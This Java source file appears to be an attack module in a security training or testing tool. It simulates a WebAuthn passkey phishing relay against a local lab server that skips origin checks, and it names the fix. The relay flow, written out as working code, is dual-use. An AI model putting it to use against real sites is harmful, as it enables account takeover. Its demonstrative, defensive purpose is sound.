package dev.gatehouse.desktop.attack;

import com.google.auto.service.AutoService;
import dev.gatehouse.desktop.credential.SoftwareAuthenticator;
import dev.gatehouse.desktop.credential.WebauthnCredential;
import dev.gatehouse.desktop.exchange.Draft;
import dev.gatehouse.desktop.exchange.Hop;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;

/** Relays an assertion that was made for a look-alike page. */
@AutoService(Attack.class)
public final class WebauthnPhishing implements Attack {
  /** Within the name for which Alice's passkey is good. */
  private static final String LOOK_ALIKE = "login.localhost";

  private static final String OPTIONS = "/options";
  private static final String SIGNED = "/signed";

  @Override
  public AttackCard card() {
    return new AttackCard(
        "webauthn-phishing",
        "A passkey used on a look-alike page",
        AttackGroup.SECOND_FACTORS,
        "Alice signs in on a page of the attacker's that looks like ours. What her passkey signs there goes on to the real"
            + " server.",
        "A page under a name within ours, such as an old subdomain that was taken over, and a link that Alice follows.",
        "Signature and challenge are genuine, and the server does not ask on which page they were made.",
        "webauthn-ignore-origin",
        List.of("WebAuthn L3 §13.4.9", "WebAuthn L3 §7.2", "CWE-346"),
        "Compare the origin with a list of your own ones, letter by letter. The browser has put it there, and Alice's"
            + " passkey has signed it.");
  }

  @Override
  public AttackResult run(Target target) throws InterruptedException {
    try (AttackerSite site = new AttackerSite()) {
      String options =
          new String(
              StolenSession.ask(target, AttackStep.ATTACKER, "Ask the real server for a challenge.")
                  .body(),
              StandardCharsets.UTF_8);
      site.serve(OPTIONS, "application/json", options);
      site.serve(SIGNED, "text/plain", "");
      String host = LOOK_ALIKE + ":" + site.port();
      Hop shown =
          target.send(
              BrowserSession.BROWSER,
              "Alice follows the link to " + host + ", whose page asks for her passkey.",
              onLookAlike(site, host, "GET", OPTIONS, new byte[0]));
      byte[] assertion =
          StolenSession.passkeyOfAlice(target)
              .sign(
                  SoftwareAuthenticator.asked(
                      WebauthnCredential.options(shown),
                      "http://" + host,
                      Instant.now().getEpochSecond()));
      target.send(
          BrowserSession.BROWSER,
          "Alice touches her key. The page gets what it signed.",
          onLookAlike(site, host, "POST", SIGNED, assertion));
      Hop login =
          StolenSession.signIn(
              target,
              AttackStep.ATTACKER,
              "Send it on to the real server.",
              site.received(SIGNED).orElse("").getBytes(StandardCharsets.UTF_8));
      return StolenSession.use(target, login);
    }
  }

  /** The name leads to the attacker's site, as a link in a mail does. */
  private static Draft onLookAlike(
      AttackerSite site, String host, String method, String path, byte[] body) {
    return new Draft(method, site.origin() + path, List.of(), body).withHeader("Host", host);
  }
}
